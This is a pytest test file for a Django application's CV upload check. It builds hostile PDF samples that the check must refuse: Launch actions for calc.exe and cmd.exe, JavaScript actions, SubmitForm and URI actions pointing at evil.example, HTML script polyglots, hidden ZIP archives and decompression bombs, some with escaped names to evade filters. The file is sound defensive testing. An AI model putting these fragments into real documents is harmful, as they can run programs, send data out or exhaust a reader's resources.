"""PDFs that hide something a desktop reader would run, open or fetch: each is refused with a
message that says what to change, and nothing of it is kept. Plain documents are accepted."""

import html
from pathlib import Path

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from citizens.models import DiplomatApplication
from tests.citizens.pdf_corpus import (
    clean_pdf,
    encrypted,
    flate_bomb,
    link,
    malformed_xref,
    object_stream_bomb,
    raw_pdf,
    small_zip,
    stream,
    too_many_objects,
    truncated,
    with_catalog,
)
from tests.factories import UserFactory

PRINT_AGAIN = "Print it to a new PDF (“Print to PDF”) and upload that copy."
SCRIPTS = f"The CV contains scripts (JavaScript). {PRINT_AGAIN}"
LAUNCH = f"The CV contains an action that starts a program. {PRINT_AGAIN}"
ATTACHED = "The CV contains attached or embedded files. Upload the CV alone, without attachments."
AUTOMATIC = (
    f"The CV contains actions that run by themselves when it is opened or viewed. {PRINT_AGAIN}"
)
OTHER_ACTION = (
    f"The CV contains actions that open other files or web addresses, or send data. {PRINT_AGAIN}"
)
BAD_LINK = (
    "The CV contains a link that opens something other than a web page or an e-mail address. "
    "Remove the link and upload the CV again."
)
XFA = f"The CV contains a form with scripts (XFA). {PRINT_AGAIN}"
MEDIA = (
    "The CV contains multimedia (video, sound, Flash or 3D). Upload a copy with text and "
    "pictures only."
)
MARKUP = f"The CV also contains web page content (HTML). {PRINT_AGAIN}"
HIDDEN = "The CV has another file hidden inside or after it. Upload the CV alone."
UNREADABLE = f"The CV could not be read as a PDF document. {PRINT_AGAIN}"
ENCRYPTED = "The CV is protected by a password or encrypted. Upload a copy without protection."
PAGES = "The CV has more than 50 pages. Upload a shorter one."
PARTS = f"The CV is made of too many parts to be checked. {PRINT_AGAIN}"
EXPANDS = "The CV expands to more than 256.0\xa0MB when opened. Upload a smaller copy."

ANNOTATED = b"/Annots[4 0 R]"

HOSTILE = {
    # Names spelled with escapes: a reader decodes them, and so does the check.
    "escaped JavaScript open action": (
        raw_pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"),
        SCRIPTS,
    ),
    "escaped JS key": (
        raw_pdf(link(b"<</S/JavaScript/#4A#53(app.alert(1))>>"), page=ANNOTATED),
        SCRIPTS,
    ),
    "escaped Launch link": (raw_pdf(link(b"<</S/L#61unch/F(cmd.exe)>>"), page=ANNOTATED), LAUNCH),
    "escaped EmbeddedFile stream": (
        raw_pdf(stream(b"/Type/Embedded#46ile", b"MZ\x90\x00")),
        ATTACHED,
    ),
    "escaped EmbeddedFiles name tree": (
        raw_pdf(
            b"<</Names[(a.exe) 5 0 R]>>",
            b"<</Type/Filespec/F(a.exe)>>",
            catalog=b"/Names<</Embedded#46iles 4 0 R>>",
        ),
        ATTACHED,
    ),
    "escaped document JavaScript": (
        raw_pdf(
            b"<</Names[(a) 5 0 R]>>",
            b"<</S/JavaScript/JS(app.alert(1))>>",
            catalog=b"/Names<</J#61vaScript 4 0 R>>",
        ),
        SCRIPTS,
    ),
    "escaped URI open action": (
        raw_pdf(catalog=b"/OpenAction<</S/U#52I/URI(https://evil.example)>>"),
        OTHER_ACTION,
    ),
    "escaped RichMedia annotation": (
        raw_pdf(b"<</Type/Annot/Subtype/Rich#4Dedia/Rect[0 0 9 9]>>", page=ANNOTATED),
        MEDIA,
    ),
    "escaped XFA form": (raw_pdf(catalog=b"/AcroForm<</Fields[]/#58FA(<xdp/>)>>"), XFA),
    # Each kind of action, wherever it sits.
    "JavaScript link": (
        raw_pdf(link(b"<</S/JavaScript/JS(app.alert(1))>>"), page=ANNOTATED),
        SCRIPTS,
    ),
    "Launch on opening": (raw_pdf(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"), LAUNCH),
    "SubmitForm link": (
        raw_pdf(link(b"<</S/SubmitForm/F(https://evil.example)>>"), page=ANNOTATED),
        OTHER_ACTION,
    ),
    "ImportData link": (
        raw_pdf(link(b"<</S/ImportData/F(data.fdf)>>"), page=ANNOTATED),
        OTHER_ACTION,
    ),
    "GoToR to a network share": (
        raw_pdf(link(b"<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"), page=ANNOTATED),
        OTHER_ACTION,
    ),
    "GoToE into an attachment": (
        raw_pdf(link(b"<</S/GoToE/T<</R/C/N(a.pdf)>>>>"), page=ANNOTATED),
        ATTACHED,
    ),
    "Rendition link": (raw_pdf(link(b"<</S/Rendition/OP 0>>"), page=ANNOTATED), OTHER_ACTION),
    "Sound link": (raw_pdf(link(b"<</S/Sound/Sound 5 0 R>>"), page=ANNOTATED), OTHER_ACTION),
    "RichMediaExecute link": (
        raw_pdf(link(b"<</S/RichMediaExecute/TA 5 0 R>>"), page=ANNOTATED),
        MEDIA,
    ),
    "Named print action on opening": (
        raw_pdf(catalog=b"/OpenAction<</S/Named/N/Print>>"),
        OTHER_ACTION,
    ),
    "JavaScript chained after a harmless action": (
        raw_pdf(
            link(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert(1))>>>>"), page=ANNOTATED
        ),
        SCRIPTS,
    ),
    "file link": (
        raw_pdf(link(b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"), page=ANNOTATED),
        BAD_LINK,
    ),
    "javascript: link": (
        raw_pdf(link(b"<</S/URI/URI(javascript:alert(1))>>"), page=ANNOTATED),
        BAD_LINK,
    ),
    "page that acts when opened": (
        raw_pdf(page=b"/AA<</O<</S/URI/URI(https://evil.example)>>>>"),
        AUTOMATIC,
    ),
    "form field that acts on keystrokes": (
        raw_pdf(
            b"<</FT/Tx/T(name)/AA<</K<</S/JavaScript/JS(x)>>>>>>",
            catalog=b"/AcroForm<</Fields[4 0 R]>>",
        ),
        AUTOMATIC,
    ),
    "file attachment annotation": (
        raw_pdf(b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>", page=ANNOTATED),
        ATTACHED,
    ),
    "script in an object nothing refers to": (
        raw_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
        SCRIPTS,
    ),
    "script inside a compressed object stream": (
        with_catalog(
            OpenAction=lambda pdf: pdf.make_indirect(
                pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
            )
        ),
        SCRIPTS,
    ),
    # Polyglots: a PDF that is also a web page or an archive.
    "HTML in a comment": (raw_pdf(tail=b"%<html><script>alert(1)</script>\n"), MARKUP),
    "HTML event handler in a string": (
        raw_pdf(b"(<img src=x onerror=alert(document.cookie)>)"),
        MARKUP,
    ),
    "ZIP archive after the end": (raw_pdf() + small_zip(), HIDDEN),
    "ZIP archive inside a stream": (raw_pdf(stream(b"", small_zip())), HIDDEN),
    # Bombs and limits.
    "400 MB of zeros in one stream": (
        raw_pdf(stream(b"/Filter/FlateDecode", flate_bomb(400 << 20))),
        EXPANDS,
    ),
    "300 MB object stream": (object_stream_bomb(300 << 20), EXPANDS),
    "picture of ten billion pixels": (
        raw_pdf(
            stream(
                b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8"
                b"/ColorSpace/DeviceGray/Filter/DCTDecode",
                b"\xff\xd8\xff\xd9",
            )
        ),
        EXPANDS,
    ),
    "51 pages": (clean_pdf(pages=51), PAGES),
    "20,001 objects": (too_many_objects(20_001), PARTS),
    # What the parser cannot read, or may not.
    "malformed cross-reference table": (malformed_xref(), UNREADABLE),
    "truncated document": (truncated(), UNREADABLE),
    "encrypted with a password to open": (encrypted(user="secret"), ENCRYPTED),
    "encrypted with an empty password to open": (encrypted(user=""), ENCRYPTED),
}


@pytest.fixture
def applicant(client, db):
    client.force_login(UserFactory(email="sara@example.org"))


def _stored_files(settings) -> set[Path]:
    return {path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()}


def _send(client, content: bytes):
    return client.post(
        "/apply/",
        {
            "cv": SimpleUploadedFile("cv.pdf", content, "application/pdf"),
            "save": "1",
            "languages-TOTAL_FORMS": "0",
            "languages-INITIAL_FORMS": "0",
        },
    )


def test_the_corpus_has_at_least_thirty_hostile_files():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize(("content", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_pdf_is_refused_with_a_clear_message_and_nothing_kept(
    client, applicant, settings, content, message
):
    before = _stored_files(settings)

    response = _send(client, content)

    assert response.status_code == 200
    assert response.context["form"].errors["cv"] == [message]
    assert message in html.unescape(response.content.decode())
    assert not DiplomatApplication.objects.exists()
    assert _stored_files(settings) == before


CLEAN = {
    "text on one page": clean_pdf(),
    "ten pages": clean_pdf(pages=10),
    "a web link and an e-mail link": raw_pdf(
        link(b"<</S/URI/URI(https://www.linkedin.com/in/sara)>>"),
        link(b"<</S/URI/URI(mailto:sara@example.org)>>"),
        page=b"/Annots[4 0 R 5 0 R]",
    ),
    "a link as Chromium's “Print to PDF” writes it": raw_pdf(
        link(b"<</Type/Action/S/URI/URI(https://example.org/)>>"), page=b"/Annots[4 0 R]"
    ),
    "opening at its first page": raw_pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
    "compressed objects": with_catalog(PageMode=pikepdf.Name.UseOutlines),
    "tagged for screen readers, with an outline": raw_pdf(
        b"<</Type/StructTreeRoot/K 5 0 R>>",
        b"<</Type/StructElem/S/P/P 4 0 R/Pg 3 0 R/A<</O/Layout/Placement/Block>>>>",
        b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
        b"<</Title(Experience)/Parent 6 0 R/A<</S/GoTo/D[3 0 R/Fit]>>>>",
        catalog=b"/StructTreeRoot 4 0 R/MarkInfo<</Marked true>>/Outlines 6 0 R",
    ),
}


@pytest.mark.parametrize("content", CLEAN.values(), ids=CLEAN.keys())
def test_a_plain_pdf_is_accepted(client, applicant, content):
    response = _send(client, content)

    assert response.status_code == 302
    assert DiplomatApplication.objects.get().cv.read() == content
